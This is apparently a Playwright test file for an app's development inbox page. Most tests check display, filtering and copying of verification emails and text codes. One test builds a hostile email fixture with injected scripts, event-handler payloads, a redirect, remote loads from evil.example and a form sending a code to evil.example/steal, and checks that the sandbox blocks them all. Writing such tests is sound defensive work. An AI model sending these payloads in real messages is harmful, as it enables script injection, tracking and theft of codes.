import type { Person } from '@postern/all-in-one/testing';
import type { Page } from 'playwright-core';
import { Browsing, look } from './browser.js';
import { titleIs } from './harness/pages.js';

const emails = (page: Page) => page.getByRole('region', { name: 'Emails' });
const texts = (page: Page) => page.getByRole('region', { name: 'Text messages' });

describe('The inbox of a trial', () => {
  let browsing: Browsing;
  let ann: Person;

  beforeAll(async () => {
    browsing = await Browsing.start();
  });
  afterEach(() => browsing.putAway());
  afterAll(() => browsing.stop());

  it('says that nothing has come yet, and shows by itself what comes', async () => {
    const page = await browsing.device();
    await page.goto('/dev/inbox');
    await titleIs(page, 'Inbox');
    await emails(page).getByText('No emails yet.').waitFor();
    await texts(page).getByText('No text messages yet.').waitFor();
    await look(page, 'inbox-empty');

    ann = await browsing.postern.enrolled();
    await emails(page)
      .getByRole('heading', { name: /Verify Your Email$/ })
      .waitFor();
    await texts(page).getByRole('button', { name: 'Copy code' }).waitFor();
    await page.getByText(/^\d+ messages$/).waitFor();
  });

  it('shows emails as they are read and as text, beside text messages', async () => {
    const page = await browsing.device();
    await page.goto('/dev/inbox');
    const email = emails(page).getByRole('article').filter({ hasText: 'Verify Your Email' });
    await email.getByRole('button', { name: /^Open: .*Verify Your Email$/ }).click();
    const framed = email.frameLocator('iframe');
    await framed.getByRole('link').first().waitFor();
    const [left, right] = await Promise.all([emails(page).boundingBox(), texts(page).boundingBox()]);
    expect(left?.y).toBe(right?.y);
    expect((left?.x ?? 0) + (left?.width ?? 0)).toBeLessThanOrEqual(right?.x ?? 0);
    await look(page, 'inbox');

    await email.getByRole('button', { name: 'Show as text' }).click();
    const link = email.getByRole('link', { name: /\/verify-email#token=/ });
    expect(await link.getAttribute('rel')).toBe('noreferrer');
    await look(page, 'inbox-text');
  });

  it('links in an email open a page of their own', async () => {
    const page = await browsing.device();
    await page.goto('/dev/inbox');
    const email = emails(page).getByRole('article').filter({ hasText: 'Verify Your Email' });
    await email.getByRole('button', { name: /^Open: .*Verify Your Email$/ }).click();
    const opened = page.waitForEvent('popup');
    await email.frameLocator('iframe').getByRole('link').first().click();
    expect(new URL((await opened).url()).pathname).toBe('/verify-email');
  });

  it('copies a code', async () => {
    const page = await browsing.device();
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await page.goto('/dev/inbox');
    const message = texts(page).getByRole('article').first();
    const code = await message.locator('code').textContent();
    await message.getByRole('button', { name: `Copy code ${code}` }).click();
    await message.getByText('Copied.').waitFor();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(code);
  });

  it('shows the messages to one address or number', async () => {
    const page = await browsing.device();
    await page.goto('/dev/inbox');
    const filter = page.getByLabel('Messages to');
    await filter.fill(ann.phone.slice(0, 3));
    await page.getByText('1 message', { exact: true }).waitFor();
    await emails(page).getByText('No emails yet.').waitFor();
    await filter.fill('nobody@example.org');
    await page.getByText('0 messages', { exact: true }).waitFor();
  });

  it('says when it cannot be reached, and goes on by itself', async () => {
    const page = await browsing.device();
    await page.goto('/dev/inbox');
    await texts(page).getByRole('article').first().waitFor();
    await page.context().setOffline(true);
    await page.getByText('The inbox cannot be reached right now').waitFor();
    await page.context().setOffline(false);
    await page.getByText('The inbox cannot be reached right now').waitFor({ state: 'detached' });
    browsing.forgive(/net::ERR_INTERNET_DISCONNECTED/);
  });

  it('S16: an email that attacks its reader runs nothing, loads nothing and leads nowhere', async () => {
    const page = await browsing.device();
    const asked: string[] = [];
    await page.context().route(/evil\.example|\/x$/, (route) => {
      asked.push(route.request().url());
      return route.fulfill({ body: '' });
    });
    // Under the very headers that the server sends with an email.
    await page.route('**/dev/inbox/messages/*/html', async (route) => {
      const reply = await route.fetch();
      await route.fulfill({ response: reply, body: hostileEmail });
    });
    await page.goto('/dev/inbox');
    const framed = emails(page).frameLocator('iframe').first();
    await framed.getByText('You have won').waitFor();
    await framed.getByRole('button', { name: 'Send' }).click();
    await page.waitForTimeout(300);
    expect(await page.title()).toBe('Inbox – Postern');
    expect(await framed.locator('body').textContent()).not.toContain('ran');
    expect(asked).toEqual([]);
    expect(new URL(page.url()).pathname).toBe('/dev/inbox');
    // What the policy stopped is what this is about.
    browsing.forgive(
      /evil\.example|Blocked script execution|Refused to execute the redirect|violates the following Content Security Policy/,
    );
  });

  it('speaks Spanish', async () => {
    const page = await browsing.device({ locale: 'es-MX' });
    await page.goto('/dev/inbox');
    await titleIs(page, 'Bandeja de entrada');
    await page
      .getByRole('button', { name: /^Copiar código \d{6}$/ })
      .first()
      .waitFor();
    await look(page, 'inbox-spanish');
  });
});

const hostileEmail = `<!doctype html><html><head><base target="_blank">
<meta http-equiv="refresh" content="0;url=https://evil.example/refreshed">
<link rel="stylesheet" href="https://evil.example/style.css"><style>@import 'https://evil.example/more.css'</style>
<script>document.body.append('ran'); parent.document.title = 'ran'</script><script src="https://evil.example/x.js"></script></head>
<body onload="document.body.append('ran')"><p>You have won</p>
<img src="https://evil.example/seen.png"><img src="x" onerror="document.body.append('ran')">
<form action="https://evil.example/steal" target="_top"><input name="code" value="1"><button>Send</button></form>
<iframe src="https://evil.example/frame"></iframe></body></html>`;
